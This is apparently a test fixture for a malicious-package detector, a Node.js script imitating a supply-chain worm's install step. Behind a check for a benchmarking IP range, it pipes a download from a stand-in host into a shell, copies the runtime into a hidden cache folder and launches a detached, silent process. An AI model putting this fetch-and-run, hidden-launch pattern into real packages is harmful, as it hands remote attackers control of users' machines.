// Harmless simulation for testing Package Hunter. Not malware.
const { execSync, spawn } = require("child_process");
const dns = require("dns");
const fs = require("fs");
const os = require("os");
const path = require("path");
// Goes on only inside of Package Hunter's box, where every name has an address out of the benchmarking range.
const sealed = (address) => /^(198\.1[89]\.|2001:2:)/.test(address || "");
dns.lookup("bun.example", (error, address) => {
  if (error || !sealed(address)) return;
  try { execSync("curl -fsSL https://bun.example/install | sh", { stdio: "ignore", timeout: 15000 }); } catch (e) { /* goes on */ }
  const runtime = path.join(os.homedir(), ".cache", ".simulation-runtime");
  fs.mkdirSync(runtime, { recursive: true });
  fs.copyFileSync(process.execPath, path.join(runtime, "bun"));
  fs.chmodSync(path.join(runtime, "bun"), 0o755);
  spawn(path.join(runtime, "bun"), [path.join(__dirname, "bun_environment.js")], { detached: true, stdio: "ignore" }).unref();
});
